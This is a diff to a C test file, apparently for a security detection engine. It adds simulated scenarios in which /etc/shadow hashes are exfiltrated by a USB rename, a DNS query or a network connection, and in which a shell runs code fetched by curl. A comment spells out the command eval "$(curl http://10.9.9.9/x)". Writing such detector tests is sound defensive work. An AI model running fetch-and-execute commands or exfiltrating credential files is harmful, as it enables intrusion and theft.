@@ -26,12 +26,16 @@ enum {
     BACKUP,
     COPY,
     SYNC,
-    LIST
+    LIST,
+    QUESTION,
+    MIRROR,
+    SECOND
 };
 
 static const char ASSETS[] = "assets:\n"
                              "  - {host: web01, path: \"/etc/shadow\", name: hashes}\n"
-                             "  - {path: \"/media/**\", name: sticks, classification: exit}\n";
+                             "  - {path: \"/media/**\", name: sticks, classification: exit}\n"
+                             "  - {address: 10.0.0.77, name: mirror, classification: exit}\n";
 
 static void entities(struct world *w)
 {
@@ -56,6 +60,9 @@ static void entities(struct world *w)
     world_file(w, COPY, "web01", "/srv/backup/x");
     world_file(w, LIST, "web01", "/home/dev/list");
     world_process(w, SYNC, "web01", "/bin/bash", "bash", NULL);
+    world_process(w, SECOND, "web01", "/bin/dash", "sh", NULL);
+    world_note(w, QUESTION, BTR_KIND_DNS, 0, NULL, BTR_ATTR_DNS_QUESTION_NAME, "x.example", 0);
+    world_connection(w, MIRROR, 0, "10.0.0.1", "4003", "10.0.0.77", "80");
 }
 
 /* By a process: what it starts steals, and then somebody else of it is the alert. */
@@ -263,9 +270,72 @@ static void read_by_what_is_started(struct world *w)
     w->now_ns -= 7000000000;
 }
 
+/* The same by other ways out: a move to a stick, a question to a name server, an exit's address. */
+static void read_and_moved(struct world *w)
+{
+    read_by_a_later_program(w);
+    w->batch.event_count -= 3;
+    w->now_ns += 3000000000;
+    world_does(w, SYNC, BTR_OP_RENAME, STICK);
+    world_event(w, HASHES, BTR_OP_RENAMED, STICK, w->now_ns, w->now_ns)->flags = BTR_EVENT_PART;
+    w->now_ns -= 4000000000;
+}
+
+static void read_and_sent(struct world *w, enum btr_operation operation, uint64_t to)
+{
+    read_by_a_later_program(w);
+    w->batch.event_count -= 2;
+    w->now_ns += 4000000000;
+    world_does(w, SYNC, operation, to);
+    w->now_ns -= 5000000000;
+}
+
+static void read_and_asked(struct world *w)
+{
+    read_and_sent(w, BTR_OP_DNS_QUERY, QUESTION);
+}
+
+static void read_and_mirrored(struct world *w)
+{
+    read_and_sent(w, BTR_OP_CONNECT, MIRROR);
+}
+
+/* eval "$(curl http://10.9.9.9/x)", by a shell that had started something before. */
+static void evaluated(struct world *w)
+{
+    world_does(w, SSHD, BTR_OP_FORK, BASH);
+    world_does(w, BASH, BTR_OP_FORK, BACKUP);
+    world_does(w, BASH, BTR_OP_FORK, CURL);
+    world_does(w, CURL, BTR_OP_CONNECT, EVIL);
+    world_does(w, CURL, BTR_OP_RECV, EVIL)->bytes = 4000;
+    world_does(w, CURL, BTR_OP_WRITE, PIPE)->bytes = 4000;
+    world_does(w, BASH, BTR_OP_READ, PIPE)->bytes = 4000;
+    steals(w, BASH);
+}
+
+/* . ./x, the same from a file. */
+static void sourced(struct world *w)
+{
+    world_does(w, SSHD, BTR_OP_FORK, BASH);
+    world_does(w, BASH, BTR_OP_FORK, BACKUP);
+    world_does(w, BASH, BTR_OP_FORK, CURL);
+    world_does(w, CURL, BTR_OP_CONNECT, EVIL);
+    world_does(w, CURL, BTR_OP_RECV, EVIL)->bytes = 4000;
+    world_does(w, CURL, BTR_OP_CREATE, MAKEFILE);
+    world_does(w, CURL, BTR_OP_WRITE, MAKEFILE)->bytes = 4000;
+    world_does(w, BASH, BTR_OP_READ, MAKEFILE)->bytes = 4000;
+    steals(w, BASH);
+}
+
 static void who_then_sends_something_may_be_steered(void **state)
 {
-    static history *const HISTORIES[] = {read_by_a_later_program, read_by_what_is_started};
+    static history *const HISTORIES[] = {read_by_a_later_program,
+                                         read_by_what_is_started,
+                                         read_and_moved,
+                                         read_and_asked,
+                                         read_and_mirrored,
+                                         evaluated,
+                                         sourced};
     (void)state;
     for (size_t i = 0; i < sizeof HISTORIES / sizeof *HISTORIES; i++) {
         struct ledger l;
